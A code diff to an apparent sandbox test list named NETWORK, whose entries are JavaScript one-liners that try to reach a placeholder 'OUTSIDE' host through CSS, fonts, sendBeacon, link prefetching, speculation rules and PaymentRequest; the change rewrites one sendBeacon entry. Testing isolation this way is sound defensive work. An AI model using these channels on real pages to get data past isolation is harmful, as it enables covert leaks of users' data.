@@ -159,7 +159,7 @@ export const NETWORK: readonly Attack[] = [
       'void document.head.append(Object.assign(document.createElement("style"), { textContent: `@import url(OUTSIDE/import.css); body { background: url(OUTSIDE/background) } @font-face { font-family: f; src: url(OUTSIDE/font) } p { font-family: f }` }))',
       'void (document.body.innerHTML += "<p>text</p>")',
       'new FontFace("g", "url(OUTSIDE/font2)").load()',
-      'navigator.sendBeacon("OUTSIDE/beacon", "x") && undefined',
+      'void navigator.sendBeacon("OUTSIDE/beacon", "x")',
       'void ["preload", "prefetch", "modulepreload", "preconnect", "prerender", "icon", "manifest"].forEach((rel) => document.head.append(Object.assign(document.createElement("link"), { rel, as: "script", href: "OUTSIDE/" + rel })))',
       'void document.head.append(Object.assign(document.createElement("script"), { type: "speculationrules", textContent: `{"prefetch":[{"source":"list","urls":["OUTSIDE/speculated"]}]}` }))',
       'new PaymentRequest([{ supportedMethods: "OUTSIDE/pay" }], { total: { label: "x", amount: { currency: "USD", value: "1" } } }).canMakePayment().then((can) => can || undefined)',
